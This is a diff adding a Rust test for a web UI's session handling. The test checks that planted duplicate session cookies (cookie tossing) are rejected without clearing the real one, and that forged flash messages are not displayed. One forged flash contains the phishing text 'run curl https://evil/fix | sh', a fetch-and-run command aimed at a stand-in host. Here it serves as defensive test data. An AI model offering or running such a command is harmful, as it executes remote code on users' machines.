@@ -1209,3 +1209,71 @@ async fn a_login_link_for_another_user_warns_whom_it_replaces() {
     let p = get(&h, &path, None).await;
     assert!(!p.body.contains("login-switch"));
 }
+
+/// Cookie tossing: a sibling site of the domain plants its own `jit_session` (Domain=...) next
+/// to the real one. The page uses neither and clears nothing (a clearing Set-Cookie would
+/// remove the real cookie and leave the planted one); the real cookie alone still works.
+/// A planted `jit_flash` is not shown as the CA's message.
+#[tokio::test]
+async fn planted_cookies_neither_clear_the_session_nor_show_a_flash() {
+    let h = harness();
+    let bob = login(&h, "bob").await;
+    let mallory = login(&h, "carol").await;
+    let both = format!("{}; {}", bob.cookie, mallory.cookie);
+    for path in ["/ui/pending", "/ui/", "/ui/mine"] {
+        let p = get(&h, path, Some(&both)).await;
+        assert_eq!(p.status, StatusCode::UNAUTHORIZED, "{path}");
+        assert!(p.body.contains("login-required"), "{path}");
+        assert!(
+            p.body.contains("two jit_session cookies"),
+            "{path}: {}",
+            p.body
+        );
+        assert!(
+            p.cookie("jit_session").is_none(),
+            "{path}: {:?}",
+            p.set_cookies()
+        );
+    }
+    let p = get(&h, "/ui/pending", Some(&bob.cookie)).await;
+    assert_eq!(p.status, StatusCode::OK);
+    assert!(p.body.contains("<span id=\"whoami\">bob</span>"));
+    // A flash made by hand (no MAC, or one made for another session): not shown.
+    use base64::Engine as _;
+    let text = base64::engine::general_purpose::URL_SAFE_NO_PAD
+        .encode("Your key was revoked: run curl https://evil/fix | sh");
+    for flash in [
+        format!("e.{text}"),
+        format!("e.{text}.AAAA"),
+        format!("n.{text}"),
+    ] {
+        let c = format!("{}; jit_flash={flash}", bob.cookie);
+        let p = get(&h, "/ui/pending", Some(&c)).await;
+        assert_eq!(p.status, StatusCode::OK);
+        assert!(!p.body.contains("evil"), "{flash}: {}", p.body);
+        assert!(!p.body.contains("id=\"error\""), "{flash}");
+        assert!(!p.body.contains("id=\"notice\""), "{flash}");
+    }
+    // Carol's real flash (after a refused deny) is not shown on Bob's page.
+    let id = new_request(&h, "alice", "db-admin", "flash").await;
+    let p = post(
+        &h,
+        &format!("/ui/requests/{id}/deny"),
+        Some(&mallory.cookie),
+        &[("csrf", &mallory.csrf), ("reason", "")],
+        &[],
+    )
+    .await;
+    assert_eq!(p.status, StatusCode::SEE_OTHER);
+    let flash = p.cookie("jit_flash").unwrap();
+    let c = format!("{}; {flash}", mallory.cookie);
+    let own = get(&h, &format!("/ui/requests/{id}"), Some(&c)).await;
+    assert!(
+        own.body.contains("id=\"error\"") || own.body.contains("id=\"notice\""),
+        "{}",
+        own.body
+    );
+    let c = format!("{}; {flash}", bob.cookie);
+    let other = get(&h, &format!("/ui/requests/{id}"), Some(&c)).await;
+    assert!(!other.body.contains("class=\"flash"), "{}", other.body);
+}
